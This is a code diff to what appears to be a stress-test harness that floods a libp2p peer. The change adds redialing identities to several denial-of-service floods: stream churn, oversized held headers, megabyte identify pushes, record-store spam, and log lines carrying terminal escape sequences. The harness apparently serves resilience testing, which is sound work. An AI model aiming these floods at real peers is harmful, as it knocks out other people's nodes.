@@ -49,6 +49,8 @@ BEGIN_S: Final = 20.0
 FILL_S: Final = 3.0  # most floods are of small messages and send less
 IDENTITIES: Final = 5
 GREETING: Final = b"\x13/multistream/1.0.0\n"
+REDIAL_S: Final = 0.1
+HEADERS_HELD_S: Final = 5.0
 HEADER_BYTES: Final = (1 << 20) - 5
 PUSH_BYTES: Final = 1_000_000
 ENDED: Final = (
@@ -85,24 +87,29 @@ class Link:
 
 
 class Attack:
-    """The peer under attack, and the attackers' identities and connections."""
+    """The peer under attack, and the attackers' link."""
 
-    def __init__(self, invite: str, link: Link, stack: AsyncExitStack) -> None:
-        """`stack` holds the connections; it belongs to the task that runs the flood."""
-        self.invite, self.link, self._stack = Invite.parse(invite), link, stack
+    def __init__(self, invite: str, link: Link) -> None:
+        self.invite, self.link = Invite.parse(invite), link
         address = self.invite.addresses[0]
         self.bare, _, self.peer = address.partition("/p2p/")
         self.ip, self.port = address.split("/")[2], int(address.split("/")[4])
 
-    async def connections(self) -> list[Any]:
-        """Return a connection of each of some identities that have entered nothing."""
-        found = []
-        for _ in range(IDENTITIES):
+    async def press(self, task: Callable[[Any], Awaitable[None]], identities: int = IDENTITIES) -> None:
+        """Run a task for each of some identities that have entered nothing, on a connection of its own; on another one
+        where that is ended."""
+
+        async def keep() -> None:
             config = HostConfig(identity=Identity.generate(), events=EventLog())
-            host = await self._stack.enter_async_context(open_host(config))
-            network = host.libp2p.get_network()
-            found.append(await network.dial_addr(Multiaddr(self.bare), ID.from_base58(self.peer)))
-        return found
+            async with open_host(config) as host:
+                network = host.libp2p.get_network()
+                while True:
+                    with suppress(*ENDED):
+                        await task(await network.dial_addr(Multiaddr(self.bare), ID.from_base58(self.peer)))
+                    await self.link.take(2000)
+                    await trio.sleep(REDIAL_S)
+
+        await together(*[keep] * identities)
 
     async def stream(self, connection: Any, protocol: str) -> Any:
         stream = await connection.new_stream()
@@ -136,7 +143,6 @@ async def handshakes(attack: Attack) -> None:
 
 async def streams(attack: Attack) -> None:
     """Opened and reset, and opened and left."""
-    connections = await attack.connections()
 
     async def press(connection: Any) -> None:
         for number in range(1 << 30):
@@ -145,12 +151,11 @@ async def streams(attack: Attack) -> None:
             if number % 4:
                 await stream.reset()
 
-    await together(*[lambda c=c: press(c) for c in connections])
+    await attack.press(press)
 
 
 async def headers(attack: Attack) -> None:
     """As long as headers may be, less their last byte."""
-    connections = await attack.connections()
 
     async def press(connection: Any) -> None:
         for _ in range(50):
@@ -162,9 +167,9 @@ async def headers(attack: Attack) -> None:
                 await attack.link.take(size)
                 await stream.write(bytes(size))
                 left -= size
+        await trio.sleep(HEADERS_HELD_S)
 
-    await together(*[lambda c=c: press(c) for c in connections])
-    await trio.sleep_forever()
+    await attack.press(press)
 
 
 async def store_at(attack: Attack, client: RunClient) -> None:
@@ -174,9 +179,9 @@ async def store_at(attack: Attack, client: RunClient) -> None:
         record = made_up(MemberRecord, {**longest, "role": "stage", "at": time.time()}, zero=True)
         key = run_id if number % 2 else f"{number}"
         issued_us = int(time.time() * 1e6)
-        signed = sign_record(host.identity, run_id, MEMBERS, key, record, ttl_s=60.0, issued_us=issued_us)
-        await attack.link.take(len(signed.body) + 200)
+        await attack.link.take(1000)
         with suppress(*ENDED):
+            signed = sign_record(host.identity, run_id, MEMBERS, key, record, ttl_s=60.0, issued_us=issued_us)
             await host.rpc.call(attack.peer, STORE, StoreRequest(run_id, host.addresses[:8], signed), timeout_s=5)
 
 
@@ -192,25 +197,22 @@ async def records(attack: Attack) -> None:
 
 async def pushes(attack: Attack) -> None:
     """New addresses of a megabyte each, by identify."""
-    connections = await attack.connections()
 
     async def press(connection: Any) -> None:
         while True:
-            with suppress(*ENDED):
-                stream = await attack.stream(connection, "/ipfs/id/push/1.0.0")
-                message = b"\x12" + varint(PUSH_BYTES) + b"\x04\x7f\x00\x00\x01\x06" + random.randbytes(PUSH_BYTES - 6)
-                message = varint(len(message)) + message
-                for start in range(0, len(message), 1 << 16):
-                    await attack.link.take(1 << 16)
-                    await stream.write(message[start : start + (1 << 16)])
-                await stream.close()
+            stream = await attack.stream(connection, "/ipfs/id/push/1.0.0")
+            message = b"\x12" + varint(PUSH_BYTES) + b"\x04\x7f\x00\x00\x01\x06" + random.randbytes(PUSH_BYTES - 6)
+            message = varint(len(message)) + message
+            for start in range(0, len(message), 1 << 16):
+                await attack.link.take(1 << 16)
+                await stream.write(message[start : start + (1 << 16)])
+            await stream.close()
 
-    await together(*[lambda c=c: press(c) for c in connections])
+    await attack.press(press)
 
 
 async def log_lines(attack: Attack) -> None:
     """Calls that break the protocol, each of which is worth a line."""
-    connections = await attack.connections()
     bodies = (b"\xc1", b"\x1b]0;title\x07", msgspec.msgpack.encode({"addresses": "\x1b[2J"}))
 
     async def press(connection: Any) -> None:
@@ -223,7 +225,7 @@ async def log_lines(attack: Attack) -> None:
                 await stream.write(struct.pack("!I", len(encoded)) + encoded)
                 await stream.read(1000)
 
-    await together(*[lambda c=c: press(c) for c in connections * 3])
+    await attack.press(press, 3 * IDENTITIES)
 
 
 async def half_open(attack: Attack) -> None:
@@ -268,7 +270,7 @@ async def together(*tasks: Callable[[], Awaitable[None]]) -> None:
 
 
 async def main(invite: str) -> None:
-    os.nice(19)  # what it costs us must not slow the honest caller beside us
+    os.setpriority(os.PRIO_PROCESS, 0, 19)  # what it costs us must not slow the honest caller
     trio.open_tcp_stream = partial(trio.open_tcp_stream, local_address=SOURCE)  # type: ignore[assignment]
     say({"ready": True})
     stdin, unread = trio.lowlevel.FdStream(0), b""
@@ -276,9 +278,8 @@ async def main(invite: str) -> None:
 
     async def run(name: str) -> None:
         with scope:
-            async with AsyncExitStack() as stack:
-                await FLOODS[name](Attack(invite, link, stack))
-                await trio.sleep_forever()
+            await FLOODS[name](Attack(invite, link))
+            await trio.sleep_forever()
         ended.set()
 
     async with trio.open_nursery() as nursery:
